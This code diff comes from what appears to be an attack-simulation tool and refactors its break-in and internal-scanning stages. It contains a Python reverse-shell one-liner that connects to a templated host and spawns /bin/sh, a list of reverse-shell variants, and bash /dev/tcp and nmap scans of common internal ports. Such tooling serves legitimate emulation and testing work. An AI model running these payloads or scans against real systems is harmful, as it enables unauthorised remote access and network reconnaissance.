@@ -24,7 +24,10 @@ COMMANDS = (
     "no-such-command",
 )
 SHELLS = ("bash", "ncat", "ncat-tls", "openssl", "socat", "python")
-PTY = "import os,pty,socket;s=socket.create_connection(('{host}',{port}));[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn('/bin/sh')"
+PTY = (
+    "import os,pty,socket;s=socket.create_connection(('{host}',{port}));"
+    "[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn('/bin/sh')"
+)
 
 
 def break_in(stage: Stage) -> None:
@@ -125,11 +128,11 @@ def scan_inside(stage: Stage) -> None:
     rng = stage.rng
     hosts = [host for host in stage.world.hosts.values() if host.side != "outside" and host.name != stage.host.name]
     some = rng.sample(hosts, min(len(hosts), int(stage.settings["networks"])))
-    if stage.settings["probe"] in ("bash", "ncat"):
+    if stage.settings["probe"] == "bash":
         _by_hand(stage, [host.v4 for host in some])
         return
     span = int(stage.settings["span"])
-    ranges = [f"{host.v4.rpartition('.')[0]}.{1}-{span}" for host in some]
+    ranges = [f"{host.v4.rpartition('.')[0]}.1-{span}" for host in some]
     words = ["nmap", "-n", f"-{stage.settings['probe']}", f"-T{stage.settings['timing']}", "--host-timeout", "40s"]
     words += ["--max-retries", "1"]
     if stage.settings["probe"] != "sn":
@@ -138,17 +141,14 @@ def scan_inside(stage: Stage) -> None:
 
 
 def _by_hand(stage: Stage, addresses: list[str]) -> None:
-    """Try ports with what every host has: a ping, and the shell's or ncat's own connections."""
+    """Try ports with what every host has: a ping, and the shell's own connections."""
     rng = stage.rng
     known = (21, 22, 23, 25, 53, 80, 135, 139, 143, 389, 443, 445, 993, 1433, 3306, 3389, 5432, 5900, 6379, 8080)
     ports = " ".join(map(str, rng.sample(known, min(len(known), int(stage.settings["ports"])))))
     one = 'timeout 0.5 bash -c "</dev/tcp/$h/$p" 2>/dev/null && echo $h $p'
-    if stage.settings["probe"] == "ncat":
-        one = "ncat -n -z -w 500ms $h $p && echo $h $p"
-    lines = (
-        f"for h in {' '.join(addresses)}; do ping -c 1 -W 1 -q $h >/dev/null; for p in {ports}; do {one}; done; done"
-    )
-    stage.run("bash", "-c", lines, limit_s=110.0, ok=None)
+    tries = f"for p in {ports}; do {one}; done"
+    every = f"for h in {' '.join(addresses)}; do ping -c 1 -W 1 -q $h >/dev/null; {tries}; done"
+    stage.run("bash", "-c", every, limit_s=110.0, ok=None)
 
 
 NEEDS = {"curl": "curl", "python3": "python3", "ncat": "ncat", "socat": "socat", "openssl": "openssl", "bash": "bash"}
@@ -167,7 +167,7 @@ KINDS = (
         "internal-scan",
         "scan",
         scan_inside,
-        {"nmap": "nmap", "ncat": "ncat", "bash": "bash", "ping": "iputils-ping"},
+        {"nmap": "nmap", "bash": "bash", "ping": "iputils-ping"},
         (),
         25.0,
         120.0,
